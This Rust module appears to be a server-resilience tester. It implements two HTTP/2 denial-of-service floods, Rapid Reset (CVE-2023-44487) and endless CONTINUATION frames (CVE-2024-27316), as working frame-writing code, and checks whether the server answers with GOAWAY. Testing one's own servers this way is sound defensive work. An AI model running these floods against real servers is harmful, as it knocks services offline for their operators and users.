//! HTTP/2 used against a server: frames that cost whoever sends them less than whoever gets them.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout;

use super::{Connection, Failure};

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// How long the end of a connection is waited for, once nothing more can be written to it.
const LAST_WORDS: Duration = Duration::from_secs(5);

/// What is sent without end.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Misuse {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// One head that never ends (CVE-2024-27316).
    Continuations,
}

impl Misuse {
    /// The frames of one write: the `round`th of this connection.
    fn frames(self, round: u32) -> Vec<u8> {
        let mut frames = Vec::new();
        for at in round * 64..(round + 1) * 64 {
            // Streams of clients are odd (RFC 9113 §5.1.1).
            let stream = at * 2 + 1;
            match self {
                Self::RapidReset => {
                    frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head()));
                    frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                }
                Self::Continuations if at == 0 => frames.extend(frame(HEADERS, END_STREAM, 1, &head())),
                // A field that is in no table and stays in none (RFC 7541 §6.2.2).
                Self::Continuations => frames.extend(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y")),
            }
        }
        frames
    }
}

/// Does it until the server ends the connection. Whether it said so, with GOAWAY.
pub(crate) async fn misuse(connection: Connection, how: Misuse) -> Result<bool, Failure> {
    let (mut reading, mut writing) = tokio::io::split(connection);
    let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &frame(SETTINGS, 0, 0, &[])[..]].concat();
    writing.write_all(&preface).await?;
    let mut come = Vec::new();
    let read = async {
        let mut octets = [0; 4096];
        while let Ok(some @ 1..) = reading.read(&mut octets).await {
            come.extend_from_slice(octets.get(..some).unwrap_or_default());
        }
    };
    let write = async {
        for round in 0..u32::MAX / 128 {
            if writing.write_all(&how.frames(round)).await.is_err() || writing.flush().await.is_err() {
                break;
            }
        }
    };
    tokio::pin!(read);
    tokio::select! {
        () = &mut read => {}
        () = write => {
            let _ended = timeout(LAST_WORDS, read).await;
        }
    }
    Ok(has_goaway(&come))
}

fn has_goaway(mut octets: &[u8]) -> bool {
    while let [a, b, c, kind, _, _, _, _, _, behind @ ..] = octets {
        if *kind == GOAWAY {
            return true;
        }
        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        octets = behind.get(length..).unwrap_or_default();
    }
    false
}

/// RFC 9113 §4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    [&[a, b, c, kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// `GET https://localhost/jwks` (RFC 7541 §6.1, §6.2.2).
fn head() -> Vec<u8> {
    [&[0x82, 0x87, 0x04, 5][..], b"/jwks", &[0x01, 9], b"localhost"].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn goaway_is_found_among_frames_and_nowhere_else() {
        let settings = frame(SETTINGS, 0, 0, &[GOAWAY; 18]);
        let goaway = frame(GOAWAY, 0, 0, &[0; 8]);
        assert!(has_goaway(&goaway));
        assert!(has_goaway(&[&settings[..], &frame(SETTINGS, 1, 0, &[]), &goaway].concat()));
        // Its head is there, and the connection has ended.
        assert!(has_goaway(&[&settings[..], &goaway[..9]].concat()));
        assert!(!has_goaway(&settings));
        assert!(!has_goaway(&settings[..12]));
        assert!(!has_goaway(&[&settings[..], &goaway[..8]].concat()));
        assert!(!has_goaway(&[]));
    }
}
